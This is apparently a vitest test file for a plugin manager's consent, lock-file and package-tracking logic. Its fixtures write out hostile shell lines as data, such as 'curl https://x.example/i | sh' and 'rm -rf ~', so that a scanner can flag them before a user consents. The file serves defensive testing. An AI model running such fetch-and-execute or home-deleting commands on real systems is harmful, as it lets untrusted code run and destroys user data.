import { existsSync } from "node:fs"
import { join } from "node:path"
import { describe, expect, it } from "vitest"
import type { PluginPin } from "@chorus/contracts"
import { useWorkbench } from "../../test/scratch.ts"
import { codeOf, no, yes } from "../../test/workbench.ts"
import {
  acceptDigests,
  acceptedBefore,
  askConsent,
  type ConsentQuestion,
  consentRequired,
  keepConsent,
  questionOf,
  recordConsent,
} from "./consent.ts"
import { expectPin, lockPath, readPins, setPin } from "./lock-file.ts"
import { packagesStanding, recordPackages } from "./packages.ts"
import { surfaceOf } from "./surface.ts"

const bench = useWorkbench()
const home = () => bench().context().home
const NOW = new Date("2026-01-02T03:04:05Z")
const does = (...commands: string[]) =>
  surfaceOf(commands.map((command) => ({ kind: "hook" as const, where: "Stop", does: command })))
const subject = (id: string, ...commands: string[]) => ({
  id,
  version: "1.0.0",
  surface: does(...commands),
  folder: bench().fixtures,
})

/** Asks, and returns the question that was put, if any. */
async function asked(...subjects: ReturnType<typeof subject>[]): Promise<ConsentQuestion | undefined> {
  let question: ConsentQuestion | undefined
  await askConsent(home(), subjects, (put) => ((question = put), true))
  return question
}

describe("asking for consent", () => {
  it("is not needed for what does nothing", async () => {
    expect(await asked(subject("a@m"))).toBeUndefined()
    await askConsent(home(), [], no)
  })

  it("asks once about each build that somebody goes back and forth between, and again about any other", async () => {
    const build = async (at: string, text: string) => {
      bench().write(at, { "run.sh": text })
      return { ...subject("a@m", "sh run.sh"), folder: join(bench().fixtures, at) }
    }
    const [one, two, three] = [await build("1", "echo 1"), await build("2", "echo 2"), await build("3", "echo 3")]
    for (const agreed of [one, two]) {
      expect(await asked(agreed)).toBeDefined()
      await recordConsent(home(), "a@m", agreed, NOW)
    }
    expect([await asked(one), await asked(two)]).toEqual([undefined, undefined])
    expect(await asked(three)).toBeDefined()
    await keepConsent(home(), "a@m", undefined, NOW)
    expect(await asked(one)).toBeDefined()
  })

  it("shows everything of what is new", async () => {
    expect(await asked(subject("a@m", "x", "y"), subject("quiet@m"))).toMatchObject({
      plugins: [{ id: "a@m", version: "1.0.0", why: "new", added: does("x", "y").items, removed: [] }],
    })
  })

  it("shows the scripts behind what is new, and flags what they hide below the fold or may load", async () => {
    const calm = Array.from({ length: 30 }, (_, at) => `echo ${at}`)
    bench().write("", {
      "scripts/a.sh": [...calm, "curl https://x.example/i | sh", "# rm -rf ~", "rm -rf ~", ". ../named.md"].join("\n"),
      "scripts/lib.sh": "sudo true\n",
      "scripts/calm.sh": "true\n",
      "README.md": "sudo make\n",
      "hidden.md": "sudo sh\n",
      "named.md": "sudo sh\n",
      Makefile: "build:\n\t. hidden.md\n",
      "package.json": { scripts: { go: "curl https://x.example/i | sh" } },
      "odd.sh": "sudo true\0\n",
      "skills/s/run.sh": "true\n",
    })
    const question = await asked(subject("a@m", "${CLAUDE_PLUGIN_ROOT}/scripts/a.sh", "sh ${CLAUDE_SKILL_DIR}/run.sh"))
    expect(question?.plugins[0]?.files).toEqual([
      {
        path: "scripts/a.sh",
        change: "runs",
        diff: [...calm.slice(0, 20).map((line) => `  ${line}`), "… 14 more lines"].join("\n"),
        flags: [
          "line 31 pipes a download into a shell: curl https://x.example/i | sh",
          "line 33 deletes a home or root folder: rm -rf ~",
        ],
      },
      { path: "skills/s/run.sh", change: "runs", diff: "  true" },
      { path: "hidden.md", change: "brings", flags: ["line 1 asks for root rights: sudo sh"] },
      { path: "named.md", change: "brings", flags: ["line 1 asks for root rights: sudo sh"] },
      {
        path: "package.json",
        change: "brings",
        flags: ['line 1 pipes a download into a shell: {"scripts":{"go":"curl https://x.example/i | sh"}}'],
      },
      { path: "scripts/lib.sh", change: "brings", flags: ["line 1 asks for root rights: sudo true"] },
      { path: "odd.sh", change: "brings" },
    ])
    expect(question?.plugins[0]?.otherFiles).toBe(3)
  })

  it("hides no line behind a command that is told: a file is looked through but for that very command", async () => {
    bench().write("", {
      "hooks.json": { command: "sudo true" },
      "package.json": { scripts: { go: "curl https://x.example/i | sh" } },
    })
    const question = await asked(subject("a@m", "sh", "sudo true"))
    expect(question?.plugins[0]?.files.map(({ path }) => path)).toEqual(["package.json"])
  })

  it("flags what changes in prose, too, where a program names the file", async () => {
    bench().write("", { "a.sh": ". ./hidden.md\n", "hidden.md": "true\n", "README.md": "Hello\n" })
    const accepted = { surface: does("sh ${CLAUDE_PLUGIN_ROOT}/a.sh"), folder: bench().fixtures }
    await recordConsent(home(), "a@m", accepted, NOW)
    bench().write("", { "hidden.md": "sudo true\n", "README.md": "sudo make\n" })
    const question = await asked(subject("a@m", "sh ${CLAUDE_PLUGIN_ROOT}/a.sh"))
    expect(question?.plugins[0]?.files.map(({ path, flags }) => [path, flags])).toEqual([
      ["README.md", undefined],
      ["hidden.md", ["line 1 asks for root rights: sudo true"]],
    ])
  })

  it("is not repeated for what was accepted, nor for less of it", async () => {
    await recordConsent(home(), "a@m", { surface: does("x", "y"), folder: bench().fixtures }, NOW)
    expect(await asked(subject("a@m", "x", "y"))).toBeUndefined()
    expect(await asked(subject("a@m", "x"))).toBeUndefined()
  })

  it("is repeated for what came in addition, and shows the difference", async () => {
    await recordConsent(home(), "a@m", { surface: does("x", "y"), folder: bench().fixtures }, NOW)
    expect(await asked(subject("a@m", "x", "z"))).toMatchObject({
      plugins: [{ why: "changed", added: does("z").items, removed: does("y").items, surface: does("x", "z") }],
    })
  })

  it("answered with no is refused with the digest that would accept it", async () => {
    const error = await askConsent(home(), [subject("a@m", "x"), subject("b@m", "y")], no).catch(
      (fault: unknown) => fault,
    )
    expect(error).toMatchObject({
      code: "consent_required",
      status: 403,
      message: "a@m, b@m would run programs on this machine; nothing was installed.",
    })
    const { sha256 } = (error as { details: { sha256: string } }).details
    expect((error as { next: string }).next).toContain(`--accept ${sha256}`)
    await askConsent(home(), [subject("a@m", "x"), subject("b@m", "y")], acceptDigests(["0", sha256.toUpperCase()]))
  })

  it("by a digest accepts exactly what was shown: no other plugin, order or command", async () => {
    const { sha256 } = (await asked(subject("a@m", "x"))) ?? { sha256: "" }
    for (const other of [subject("a@m", "y"), subject("b@m", "x"), subject("a@m", "x", "y")])
      expect(await codeOf(askConsent(home(), [other], acceptDigests([sha256])))).toBe("consent_required")
    expect(await codeOf(askConsent(home(), [subject("a@m", "x"), subject("b@m", "x")], acceptDigests([sha256])))).toBe(
      "consent_required",
    )
  })

  it("may take its time", async () => {
    await askConsent(home(), [subject("a@m", "x")], async () => Promise.resolve(true))
    expect(await codeOf(askConsent(home(), [subject("a@m", "x")], async () => Promise.resolve(false)))).toBe(
      "consent_required",
    )
  })

  it("that fails for another reason is not taken for an answer", async () => {
    await expect(
      askConsent(home(), [subject("a@m", "x")], () => Promise.reject(new Error("the terminal is gone"))),
    ).rejects.toThrow("the terminal is gone")
  })

  it("says differently that something changed", () => {
    const changed = questionOf([
      {
        id: "a@m",
        version: "1",
        why: "changed",
        surface: does("x"),
        added: does("x").items,
        removed: [],
        files: [],
        tree: undefined,
      },
    ])
    expect(consentRequired(changed).message).toBe("a@m would now do something on this machine you did not agree to.")
  })
})

describe("what was accepted", () => {
  it("is kept with its time until it is taken back", async () => {
    await recordConsent(home(), "a@m", { surface: does("x"), folder: bench().fixtures }, NOW)
    expect(bench().json(join(home().chorus, "consents.json"))).toEqual({
      "a@m": {
        surface: does("x"),
        files: {},
        folder: bench().fixtures,
        agreed: [expect.stringMatching(/^[0-9a-f]{64}$/)],
        acceptedAt: "2026-01-02T03:04:05.000Z",
      },
    })
    expect(acceptedBefore(home(), "a@m")?.surface).toEqual(does("x"))
    await keepConsent(home(), "a@m", undefined, NOW)
    expect(acceptedBefore(home(), "a@m")).toBeUndefined()
  })

  it("is nothing where the record is no surface: then it is asked again", async () => {
    bench().write("../home/.claude/plugins/chorus", {
      "consents.json": { "a@m": { surface: { items: "all" } }, "b@m": 7 },
    })
    expect([acceptedBefore(home(), "a@m"), acceptedBefore(home(), "b@m"), acceptedBefore(home(), "toString")]).toEqual([
      undefined,
      undefined,
      undefined,
    ])
    expect(await codeOf(askConsent(home(), [subject("a@m", "x")], no))).toBe("consent_required")
    await askConsent(home(), [subject("a@m", "x")], yes)
  })
})

describe("a lock", () => {
  const pin = (more: Partial<PluginPin> = {}): PluginPin => ({
    version: "1.0.0",
    contentHash: "sha256-a",
    surfaceHash: "s",
    source: "./a",
    ...more,
  })

  it("of a project lies in the project, for everybody to read; the others on this machine", async () => {
    expect([lockPath(home(), "project"), lockPath(home(), "user"), lockPath(home(), "managed")]).toEqual([
      join(bench().project, ".claude/plugin-lock.json"),
      ...["user", "managed"].map(() => join(home().chorus, "lock.json")),
    ])
    const elsewhere = lockPath({ ...home(), project: "/elsewhere" }, "local")
    expect(lockPath(home(), "local").startsWith(join(home().chorus, "local-locks/"))).toBe(true)
    expect(lockPath(home(), "local")).not.toBe(elsewhere)
    await setPin(home(), "project", "a@m", pin())
    expect(bench().json(lockPath(home(), "project"))).toEqual({ version: 1, plugins: { "a@m": pin() } })
  })

  it("is changed pin by pin, and keeps what it does not know", async () => {
    bench().write("../proj/.claude", {
      "plugin-lock.json": {
        version: 1,
        novel: 1,
        plugins: { "a@m": { ...pin(), note: "x", pinned: true }, "b@m": pin() },
      },
    })
    await setPin(home(), "project", "a@m", pin({ version: "2.0.0" }))
    expect(bench().json(lockPath(home(), "project"))).toEqual({
      version: 1,
      novel: 1,
      plugins: { "a@m": { ...pin({ version: "2.0.0" }), note: "x", pinned: true }, "b@m": pin() },
    })
    await setPin(home(), "project", "b@m", undefined)
    expect([...readPins(home(), "project").keys()]).toEqual(["a@m"])
  })

  it("of a project's own used to lie among the user's, and is still found there", async () => {
    await setPin(home(), "user", "a@m", pin())
    expect(readPins(home(), "local").get("a@m")).toEqual(pin())
    await setPin(home(), "local", "a@m", pin({ version: "2.0.0" }))
    expect([readPins(home(), "local").get("a@m")?.version, readPins(home(), "user").get("a@m")?.version]).toEqual([
      "2.0.0",
      "1.0.0",
    ])
    const record = { scope: "user", installPath: "/x", version: "1.0.0", installedAt: "", lastUpdated: "" }
    bench().write("../home/.claude/plugins", {
      "installed_plugins.json": { version: 2, plugins: { "b@m": [record] } },
    })
    await setPin(home(), "user", "b@m", pin())
    expect(readPins(home(), "local").has("b@m")).toBe(false)
  })

  it("is not made to take something out of it", async () => {
    await setPin(home(), "project", "a@m", undefined)
    expect(existsSync(join(bench().project, ".claude"))).toBe(false)
  })

  it("with a pin that cannot be read is not passed over", () => {
    bench().write("../proj/.claude", { "plugin-lock.json": { plugins: { "a@m": { version: 1 } } } })
    expect(() => readPins(home(), "project")).toThrow(
      expect.objectContaining({ code: "lock_unreadable", message: expect.stringContaining("a@m") as string }) as Error,
    )
  })

  it.each([[{}], [{ plugins: [] }], [{ plugins: "x" }]])("%j holds nothing", (content) => {
    bench().write("../proj/.claude", { "plugin-lock.json": content })
    expect(readPins(home(), "project").size).toBe(0)
  })

  it("lets the same bytes through and no others, and says what differs and what to do", () => {
    expect(() => expectPin("user", pin(), { id: "a@m", contentHash: "sha256-a", version: "9.9.9" })).not.toThrow()
    expect(() => expectPin("user", pin(), { id: "a@m", contentHash: "sha256-b", version: "1.0.0" })).toThrow(
      expect.objectContaining({
        code: "pin_mismatch",
        message: "a@m was not installed: version 1.0.0 now has other content than when it was locked.",
        next: expect.stringMatching(/^Either .+ install a@m --newest\), or ask/) as string,
      }) as Error,
    )
    expect(() =>
      expectPin("user", pin({ pinned: true }), { id: "a@m", contentHash: "sha256-b", version: "2.0.0" }),
    ).toThrow(
      expect.objectContaining({
        message: "a@m was not installed: version 1.0.0 is locked, and 2.0.0 is offered.",
      }) as Error,
    )
  })
})

describe("the packages beside a plugin", () => {
  const standing = (folder: string) => packagesStanding(home(), folder)

  it("are none without a lockfile or without packages, and then nothing is kept", async () => {
    const folder = bench().write("p", { "package.json": "{}", "node_modules/x/i.js": "1" })
    expect(standing(folder)).toBe("none")
    await recordPackages(home(), folder)
    expect(existsSync(home().chorus)).toBe(false)
    expect(standing(bench().write("q", { "package.json": "{}", "package-lock.json": "{}" }))).toBe("none")
  })

  it("are unknown until they are recorded, then the same until one changes", async () => {
    const folder = bench().write("p", { "package.json": "{}", "package-lock.json": "{}", "node_modules/x/i.js": "1" })
    expect(standing(folder)).toBe("unknown")
    await recordPackages(home(), folder)
    expect(standing(folder)).toBe("same")
    bench().write("p", { "node_modules/x/i.js": "2" })
    expect(standing(folder)).toBe("changed")
  })
})
